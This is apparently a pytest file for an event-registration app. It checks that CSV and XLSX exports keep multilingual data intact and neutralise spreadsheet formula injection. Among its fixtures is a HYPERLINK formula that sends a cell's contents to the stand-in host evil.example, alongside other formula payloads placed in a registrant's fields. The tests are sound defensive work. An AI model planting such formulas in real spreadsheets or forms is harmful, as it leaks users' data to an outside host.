"""CSV and XLSX exports of an event's registrations, read back as a spreadsheet user would."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from move_events.auth.models import Role
from move_events.directory.models import OrganisationKind
from move_events.registration.exports import COLUMNS, registrations_csv, registrations_xlsx
from move_events.registration.models import RegistrationRole
from move_events.registration.services import NewOrganisation
from move_events.spreadsheets import neutralise_formula
from tests.factories import make_event, register

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def people(db):
    event = make_event(published=True, capacity=2)
    elodie = register(
        event,
        given_name="Élodie",
        family_name="Dupont",
        email="elodie@cap-digital.example",
        phone="+33 1 23 45 67 89",
        job_title="Directrice",
        role=RegistrationRole.SPEAKER,
        organisation=NewOrganisation(name="Cap Digital", kind=OrganisationKind.CLUSTER, country="FR"),
    )
    ivan = register(
        event,
        given_name="Иван",
        family_name="Петров",
        email="ivan@telecom.example",
        organisation=NewOrganisation(name="Клъстер Телеком", kind=OrganisationKind.CLUSTER, country="BG"),
    )
    attacker = register(
        event,
        given_name=INJECTION,
        family_name="@SUM(1+1)",
        email="youssef@atlas.example",
        job_title="-2+3",
        organisation=NewOrganisation(name="شركة الأطلس", kind=OrganisationKind.SME, country="MA"),
    )
    ivan.checked_in_at = datetime(2030, 5, 4, 8, 15, 30, tzinfo=UTC)
    db.session.commit()
    return event, [elodie, ivan, attacker]


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> tuple[list[tuple], list]:
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    return [cell.value for cell in rows[0]], [
        [(cell.value, cell.data_type) for cell in row] for row in rows[1:]
    ]


def test_export_csv_round_trips_every_column_and_script(people):
    _, (elodie, ivan, attacker) = people
    rows = read_csv(registrations_csv([elodie, ivan, attacker]))
    assert list(rows[0]) == list(COLUMNS)
    assert rows[0] == {
        "id": str(elodie.id),
        "status": "confirmed",
        "role": "speaker",
        "given_name": "Élodie",
        "family_name": "Dupont",
        "email": "elodie@cap-digital.example",
        "phone": "'+33 1 23 45 67 89",  # a leading + is a formula to Excel
        "job_title": "Directrice",
        "organisation": "Cap Digital",
        "organisation_kind": "cluster",
        "country": "FR",
        "registered_at": elodie.created_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "checked_in_at": "",
    }
    assert (rows[1]["given_name"], rows[1]["organisation"], rows[1]["country"]) == (
        "Иван",
        "Клъстер Телеком",
        "BG",
    )
    assert rows[1]["checked_in_at"] == "2030-05-04T08:15:30Z"
    assert (rows[2]["status"], rows[2]["organisation"]) == ("waitlisted", "شركة الأطلس")


def test_export_csv_neutralises_formula_injection(people):
    _, (_, _, attacker) = people
    row = read_csv(registrations_csv([attacker]))[0]
    assert row["given_name"] == "'" + INJECTION
    assert row["family_name"] == "'@SUM(1+1)"
    assert row["job_title"] == "'-2+3"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("Société", "Société"),
        ("", ""),
    ],
)
def test_neutralise_formula_prefixes_only_dangerous_starts(text, shown):
    assert neutralise_formula(text) == shown


def test_export_xlsx_round_trips_with_text_never_a_formula(people):
    _, (elodie, ivan, attacker) = people
    header, rows = read_xlsx(registrations_xlsx([elodie, ivan, attacker]))
    assert header == list(COLUMNS)
    values = [[value for value, _ in row] for row in rows]
    assert values[0][:11] == [
        elodie.id, "confirmed", "speaker", "Élodie", "Dupont", "elodie@cap-digital.example",
        "+33 1 23 45 67 89", "Directrice", "Cap Digital", "cluster", "FR",
    ]  # fmt: skip
    assert values[0][11] == elodie.created_at.astimezone(UTC).replace(tzinfo=None, microsecond=0)
    assert values[0][12] is None
    assert values[1][3:5] == ["Иван", "Петров"] and values[1][12] == datetime(2030, 5, 4, 8, 15, 30)
    assert values[2][3:5] == [INJECTION, "@SUM(1+1)"] and values[2][8] == "شركة الأطلس"
    assert {data_type for value, data_type in rows[2] if isinstance(value, str)} == {"s"}  # no "f"


def test_export_xlsx_drops_characters_xml_cannot_hold(db):
    event = make_event(published=True)
    registration = register(event, given_name="Bell\x07e", job_title="Tab\tok")
    _, rows = read_xlsx(registrations_xlsx([registration]))
    assert rows[0][3][0] == "Belle" and rows[0][7][0] == "Tab\tok"


@pytest.mark.parametrize(
    ("fmt", "mimetype"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_manage_export_downloads_the_filtered_list(client, auth, people, fmt, mimetype):
    event, (elodie, ivan, _) = people
    auth.login(Role.ORGANISER)  # read access: any organiser, not only the event's
    response = client.get(f"/manage/events/{event.id}/registrations.{fmt}?kind=cluster&status=confirmed")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == mimetype
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f"{event.slug}-registrations-" in disposition
    if fmt == "csv":
        ids = [int(row["id"]) for row in read_csv(response.data)]
    else:
        ids = [row[0][0] for row in read_xlsx(response.data)[1]]
    assert ids == [elodie.id, ivan.id]  # by family name; the waiting SME is filtered out


def test_manage_export_of_an_empty_list_has_the_header(client, auth, db):
    event = make_event(published=True)
    auth.login(Role.ORGANISER)
    assert read_csv(client.get(f"/manage/events/{event.id}/registrations.csv").data) == []
    header, rows = read_xlsx(client.get(f"/manage/events/{event.id}/registrations.xlsx").data)
    assert header == list(COLUMNS) and rows == []
